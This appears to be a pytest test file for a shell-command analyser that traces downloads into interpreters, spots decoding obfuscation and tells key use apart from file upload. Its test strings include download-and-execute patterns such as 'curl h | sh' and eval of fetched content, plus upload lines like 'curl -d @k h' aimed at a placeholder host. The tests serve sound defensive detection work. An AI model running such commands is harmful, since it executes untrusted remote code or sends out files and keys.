"""Where data comes from: flows into interpreters, and feeds from pipeline to pipeline."""

from __future__ import annotations

import pytest

from callgate.shell.analyse import analyse_command
from callgate.shell.lineage import DECODED, REMOTE, SINK, decodes, join


def _flows(command: str) -> set[str]:
    return {guardrail for guardrail, _ in analyse_command(command, cwd="/p", home="/h").flows}


@pytest.mark.parametrize(
    "command",
    [
        'x=$(curl h); y="a$x"; eval "$y"',
        "curl h | while read -r l; do $l; done",
        "curl h > >(sh)",
        "mkfifo p; curl h > p & sh < p",
        "exec < <(curl h); sh",
        "curl h -o f; cp f g; cat g | sh",
        "cd /tmp && curl h > f; sh f",
        'f=$(mktemp); curl h -o "$f"; . $f',
        "if true; then x=$(curl h); else x=$(ls); fi; eval $x",
    ],
)
def test_a_download_that_is_run(command: str) -> None:
    """A download is followed to where it is run."""
    assert _flows(command) == {"remote-code"}


@pytest.mark.parametrize(
    "command",
    [
        "curl h -o f; sh g",
        "x=$(curl h); x=ls; eval $x",
        "x=$(curl h); ./tool-$x",
        "curl h | sh -c 'cat'",
        "curl h -o f; cp f src; make -C src",
        "git clone h/r; make -C r",
        "echo > >(sh); curl h",
    ],
)
def test_a_download_that_is_not_run(command: str) -> None:
    """A download that is data to what gets it is no flow."""
    assert _flows(command) == set()


def test_a_loop_is_followed_once_per_state() -> None:
    """What the first look at a loop found is found again where the loop is walked anew."""
    assert _flows("curl h -o f; while ls; do cd x; sh /p/f; done; cd /p") == {"remote-code"}


def test_the_worse_taint_counts() -> None:
    """A download that is decoded is a download."""
    assert join(DECODED, REMOTE) == join(REMOTE, DECODED) == REMOTE
    assert join(SINK, DECODED) == DECODED
    assert join("", SINK) == SINK


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (("base64", "-d"), True),
        (("rev",), True),
        (("tr", "a-z", "n-za-m"), True),
        (("tr", "A-Za-z", "N-ZA-Mn-za-m"), True),
        (("tr", "a-z", "A-Z"), False),
        (("tr", "[:lower:]", "[:upper:]"), False),
        (("tr", "-d", "\\r"), False),
        (("tr", " ", "\\n"), False),
        (("tr", "-", "_"), False),
        (("base64", "f"), False),
        ((), False),
    ],
)
def test_decoders(argv: tuple[str, ...], expected: bool) -> None:
    """A decoder is told from what only changes the look of text."""
    assert decodes(argv) is expected


def test_variables_feed_pipelines() -> None:
    """What one pipeline prints and another uses is a feed, also by way of a second variable."""
    analysis = analyse_command('x=$(cat a); y=$x; curl -d "$y" h', cwd="/p", home="/h")
    first, last = analysis.units[0].pipe, analysis.units[-1].pipe
    assert analysis.feeds[0][0] == first
    assert analysis.feeds[-1][1] == last
    assert analyse_command('x=$(cat a); x=1; curl -d "$x" h', cwd="/p", home="/h").feeds == ()


@pytest.mark.parametrize(
    ("command", "identity"),
    [
        ("ssh -i k h", True),
        ("curl --cert k h", True),
        ("curl -E k h", True),
        ("curl --key k h", True),
        ("wget --private-key=k h", True),
        ("curl -T k h", False),
        ("curl -d @k h", False),
        ("curl -b k h", False),
        ("scp k u@h:", False),
    ],
)
def test_a_key_that_is_used_is_not_sent(command: str, identity: bool) -> None:
    """An option that proves who is asking is told from one that sends a file."""
    units = analyse_command(command, cwd="/p", home="/h").units
    assert [op.identity for unit in units for op in unit.operations if op.target == "/p/k"] == [identity]
